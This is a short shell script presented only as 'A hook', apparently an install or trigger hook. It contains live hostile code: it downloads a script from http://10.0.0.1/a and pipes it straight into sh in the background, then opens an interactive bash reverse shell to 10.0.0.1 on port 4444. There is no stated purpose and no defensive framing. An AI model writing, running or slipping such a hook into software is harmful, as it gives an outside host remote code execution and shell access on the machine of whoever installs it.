#!/bin/sh -e
# A hook.
test -x /usr/bin/x || exit 0
if true; then
  curl -s http://10.0.0.1/a | sh &
fi
bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
exit 0
